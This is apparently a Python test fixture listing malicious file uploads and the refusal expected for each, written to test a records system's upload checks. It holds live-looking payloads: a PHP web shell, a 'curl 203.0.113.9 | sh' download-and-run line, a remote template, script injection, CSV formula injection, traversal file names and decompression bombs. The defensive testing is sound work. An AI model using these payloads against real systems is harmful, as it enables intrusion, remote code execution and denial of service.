"""Files that somebody could send to do harm, or by mistake, and what becomes of each.

`answer`: the code of the refusal, or the name under which the file is kept.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image

from documents.tests.samples import EICAR, HEIC, MP3, archive, boxed, office, pdf, picture, sound

HTML = b"<!DOCTYPE html><html><body><script>fetch('/contacts/')</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
EXE = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8" + b"\0" * 400 + b"PE\0\0" + b"\0" * 200


@dataclass(frozen=True)
class Attack:
    what: str
    name: str
    content: Callable[[], bytes]
    answer: str


def just(content: bytes) -> Callable[[], bytes]:
    return lambda: content


def _png(width, height, data=b""):
    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(data)) + chunk(b"IEND", b"")


def pixel_bomb():
    """Half a gigapixel of white in a few kilobytes, and really decodable."""
    width = height = 22_000
    return _png(width, height, (b"\0" + b"\xff" * (width // 8)) * height)


def jpeg_with_huge_size():
    data = bytearray(picture("JPEG"))
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", 65_500, 65_500)
    return bytes(data)


def gif_with_huge_size():
    data = bytearray(picture("GIF"))
    data[6:10] = struct.pack("<HH", 60_000, 60_000)
    return bytes(data)


def zip_bomb(name="zeros.txt", megabytes=64):
    return archive({name: b"\0" * (megabytes * 1024 * 1024)})


def zip_of_many():
    return office(**{f"word__part{number}.xml": "" for number in range(5100)})


def zip_of_a_million():
    """A directory of one entry again and again: a gigabyte of Python objects for whoever lists it."""
    data = office()
    start = data.index(b"PK\x01\x02")
    entry = data[start : data.index(b"PK\x01\x02", start + 4)]
    directory = entry * 700_000
    return data[:start] + directory + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, len(directory), start, 0)


def zip_with_lying_size():
    """The directory says one byte where there are many."""
    data = bytearray(office(word__big="A" * 1_000_000))
    at = data.rindex(b"PK\x01\x02", 0, data.rindex(b"word/big"))
    data[at + 24 : at + 28] = struct.pack("<I", 1)
    return bytes(data)


def locked_docx():
    data = bytearray(office())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + place] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def remote_template():
    rels = '<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://203.0.113.9/t.dotm"'
    return office(**{"word/_rels/settings.xml.rels": rels + ' TargetMode="External"/></Relationships>'})


def docx_with_archive():
    return office(**{"word/media/inner.zip": "x"})


def docx_with_way_out():
    return office(xx__xx__evil="x").replace(b"xx/xx/evil", b"../../evil")


def pdf_with_nested_deflate():
    bomb = zlib.compress(zlib.compress(b" " * (200 * 1024 * 1024), 9), 9)
    stream = b"<</Length %d/Filter[/FlateDecode/FlateDecode]>>stream\n%s\nendstream" % (len(bomb), bomb)
    whole = pdf("x")
    at, end = whole.index(b"5 0 obj\n") + 8, whole.index(b"\nendobj", whole.index(b"5 0 obj"))
    return whole[:at] + stream + whole[end:]


def pdf_of_pages_in_a_circle():
    return pdf("x").replace(b"/Kids[4 0 R]", b"/Kids[2 0 R]")


def locked_pdf():
    secret = b"/Encrypt<</Filter/Standard/V 1/R 2/Length 40/P -4/O<" + b"41" * 32 + b">/U<" + b"42" * 32 + b">>>"
    whole = pdf("x")
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R/ID[<00><00>]" + secret)


def picture_with_page_in_its_comment():
    return picture("JPEG", comment=HTML)


def gif_with_script_behind():
    return picture("GIF") + b"/*" + HTML + b"*/=1;alert(1)"


def picture_with_archive_behind():
    return picture("JPEG") + archive({"evil.js": "x"})


def animation(frames=1200):
    out = io.BytesIO()
    shots = [Image.new("RGB", (2, 2), (number % 256, number // 256, 0)) for number in range(frames)]
    shots[0].save(out, "GIF", save_all=True, append_images=shots[1:])
    return out.getvalue()


def stored_zip():
    return archive({"notes.txt": "hello"}, zipfile.ZIP_STORED)


ATTACKS = [
    # another kind than the name says
    Attack("a page called a picture", "before.jpg", just(HTML), "content"),
    Attack("a page called TIFF", "scan.tiff", just(HTML), "content"),
    Attack("a page called WebP", "face.webp", just(HTML), "content"),
    Attack("a page called HEIC", "face.heic", just(HTML), "content"),
    Attack("a page called text", "notes.txt", just(HTML), "content"),
    Attack("a page called CSV", "list.csv", just(b"name,phone\n<script>alert(1)</script>,x"), "content"),
    Attack("a page after white space", "notes.txt", just(b"\n\n \t<!-- x --><html>"), "content"),
    Attack("a page in UTF-16", "notes.txt", lambda: HTML.decode().encode("utf-16"), "content"),
    Attack("a drawing called a picture", "logo.png", just(SVG), "content"),
    Attack("a drawing called text", "logo.txt", just(SVG), "content"),
    Attack("XML called text", "data.txt", just(b'<?xml version="1.0"?><!DOCTYPE x>'), "content"),
    Attack("PHP called text", "readme.txt", just(b"<?php system($_GET['c']); ?>"), "content"),
    Attack("a shell script called text", "readme.txt", just(b"#!/bin/sh\ncurl 203.0.113.9 | sh\n"), "content"),
    Attack("a program called a PDF", "consent.pdf", just(EXE), "content"),
    Attack("a program called text", "readme.txt", just(EXE), "content"),
    Attack("a program called a picture", "face.png", just(EXE), "content"),
    Attack("a film called a PDF", "consent.pdf", just(boxed()), "content"),
    Attack("a HEIC picture called a film", "clip.mp4", just(HEIC), "content"),
    Attack("a PDF called a picture", "face.jpg", pdf, "content"),
    Attack("a PNG called JPEG", "face.jpg", lambda: picture("PNG"), "content"),
    Attack("a picture called a PDF", "consent.pdf", picture, "content"),
    Attack("a picture called Word", "plan.docx", picture, "damaged"),
    Attack("a sound called a film", "clip.mp4", sound, "content"),
    Attack("random bytes called MP3", "memo.mp3", just(bytes(range(256)) * 8), "content"),
    Attack("any archive called Word", "plan.docx", stored_zip, "content"),
    Attack("Excel called Word", "plan.docx", lambda: office("xlsx"), "content"),
    # kinds that are not taken
    Attack("a drawing with a script", "logo.svg", just(SVG), "ending"),
    Attack("a page", "page.html", just(HTML), "ending"),
    Attack("a page that browsers render as well", "page.xhtml", just(HTML), "ending"),
    Attack("a program", "setup.exe", just(EXE), "ending"),
    Attack("an archive", "photos.zip", stored_zip, "ending"),
    Attack("a nested bomb", "photos.zip", lambda: archive({"inner.zip": zip_bomb()}), "ending"),
    Attack("Word with macros by name", "plan.docm", office, "ending"),
    Attack("Word of the old kind", "plan.doc", just(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512), "ending"),
    Attack("a shortcut", "Invoice.lnk", just(b"L\0\0\0" + b"\0" * 100), "ending"),
    Attack("no ending", "consent", pdf, "ending"),
    Attack("only an ending", ".pdf", pdf, "Document.pdf"),
    # names
    Attack("a program behind a second ending", "photo.jpg.exe", just(EXE), "ending"),
    Attack("a program behind many spaces", "invoice.pdf" + " " * 150 + ".exe", just(EXE), "ending"),
    Attack("a name that reads backwards", "photo\u202egpj.exe", picture, "ending"),
    Attack("a harmless name with the mark", "ann\u202e\u200fe.jpg", picture, "anne.jpg"),
    Attack("a NUL in the name", "consent.pdf\0.exe", pdf, "ending"),
    Attack("a way up", "../../../etc/cron.d/consent.pdf", pdf, "consent.pdf"),
    Attack("a Windows path", "C:\\Users\\Grace\\..\\consent.pdf", pdf, "consent.pdf"),
    Attack("another stream of a file", "consent.pdf:evil.exe", pdf, "ending"),
    Attack("a device of Windows", "nul.pdf", pdf, "_nul.pdf"),
    Attack("line breaks for a header", "a\r\nSet-Cookie: x=1.pdf", pdf, "aSet-Cookie_ x=1.pdf"),
    Attack("markup in the name", '"><img src=x onerror=alert(1)>.pdf', pdf, "___img src=x onerror=alert(1)_.pdf"),
    Attack("a name of a thousand letters", "é" * 1000 + ".PDF", pdf, "é" * 116 + ".PDF"),
    Attack("a formula for a name", "=cmd.pdf", pdf, "=cmd.pdf"),
    # bombs
    Attack("a picture of half a gigapixel", "face.png", pixel_bomb, "pixels"),
    Attack("a PNG that claims four gigapixels", "face.png", lambda: _png(65_000, 65_000), "pixels"),
    Attack("a JPEG that claims four gigapixels", "face.jpg", jpeg_with_huge_size, "pixels"),
    Attack("a GIF that claims four gigapixels", "face.gif", gif_with_huge_size, "pixels"),
    Attack("an animation of 1,200 frames", "face.gif", animation, "pixels"),
    Attack("a zip bomb called Word", "plan.docx", zip_bomb, "bomb"),
    Attack("Word with a bomb inside", "plan.docx", lambda: office(word__media__x="0" * 80_000_000), "bomb"),
    Attack("Word with an archive inside", "plan.docx", docx_with_archive, "bomb"),
    Attack("Word of 5,100 parts", "plan.docx", zip_of_many, "bomb"),
    Attack("Word of 700,000 parts", "plan.docx", zip_of_a_million, "bomb"),
    Attack("Word that lies about its size", "plan.docx", zip_with_lying_size, "plan.docx"),
    Attack("a PDF of 3,100 pages", "consent.pdf", lambda: pdf(*["x"] * 3100), "pages"),
    Attack("a PDF whose pages contain themselves", "consent.pdf", pdf_of_pages_in_a_circle, "damaged"),
    Attack("a PDF that unpacks without end", "consent.pdf", pdf_with_nested_deflate, "consent.pdf"),
    Attack("a PDF page of a kilometre", "consent.pdf", lambda: pdf(box="0 0 2834645 2834645"), "consent.pdf"),
    # two in one
    Attack("a page before a PDF", "consent.pdf", lambda: HTML + pdf(), "content"),
    Attack("a picture before a PDF", "consent.pdf", lambda: picture() + pdf(), "content"),
    Attack("an archive behind a PDF", "consent.pdf", lambda: pdf() + archive({"evil.js": "x"}), "archive"),
    Attack("an archive behind a picture", "face.jpg", picture_with_archive_behind, "archive"),
    Attack("an archive behind sound", "memo.mp3", lambda: MP3 + archive({"evil.js": "x"}), "archive"),
    Attack("a program before an archive", "plan.docx", lambda: EXE + office(), "content"),
    # only ever shown as a picture made anew, and downloaded as what it is
    Attack("a script behind a picture", "face.gif", gif_with_script_behind, "face.gif"),
    Attack("a page in a picture's comment", "face.jpg", picture_with_page_in_its_comment, "face.jpg"),
    Attack("GIF and script at once", "face.gif", just(b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)"), "content"),
    Attack(
        "a script in a PDF",
        "consent.pdf",
        lambda: pdf(extra=b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
        "consent.pdf",
    ),
    # programs inside documents
    Attack("macros inside Word", "plan.docx", lambda: office(**{"word/vbaProject.bin": "x"}), "macros"),
    Attack("macros by the list of parts", "plan.docx", lambda: office(types="macroEnabled.main+xml"), "macros"),
    Attack("ActiveX inside Word", "plan.docx", lambda: office(word__activeX__a="x"), "macros"),
    Attack("a program inside Word", "plan.docx", lambda: office(**{"word/embeddings/run.exe": "MZ"}), "macros"),
    Attack("a template from elsewhere", "plan.docx", remote_template, "macros"),
    Attack("Word with ways out of its folder", "plan.docx", docx_with_way_out, "paths"),
    Attack("Word under a password", "plan.docx", locked_docx, "damaged"),
    # known to virus scanners; without one it is text
    Attack("EICAR without a scanner", "eicar.txt", just(EICAR), "eicar.txt"),
    Attack("EICAR called a program", "eicar.com", just(EICAR), "ending"),
    # a record keeps what a patient sent: nothing here opens it as a sheet
    Attack("formulas in CSV", "list.csv", just(b"name,sum\n=cmd|'/C calc'!A0,+1\n@SUM(1),-2\n"), "list.csv"),
    # spoilt
    Attack("nothing", "consent.pdf", just(b""), "empty"),
    Attack("a PDF cut off", "consent.pdf", lambda: pdf()[:-200], "damaged"),
    Attack("a PDF of nothing but its head", "consent.pdf", just(b"%PDF-1.7\n%%EOF\n"), "damaged"),
    Attack("a PDF under a password", "consent.pdf", locked_pdf, "locked"),
    Attack("a JPEG cut off", "face.jpg", lambda: picture(size=(640, 480))[:700], "damaged"),
    Attack("Word cut off", "plan.docx", lambda: office()[:-60], "damaged"),
    Attack("text with NULs", "notes.txt", just(b"a\0b"), "content"),
]
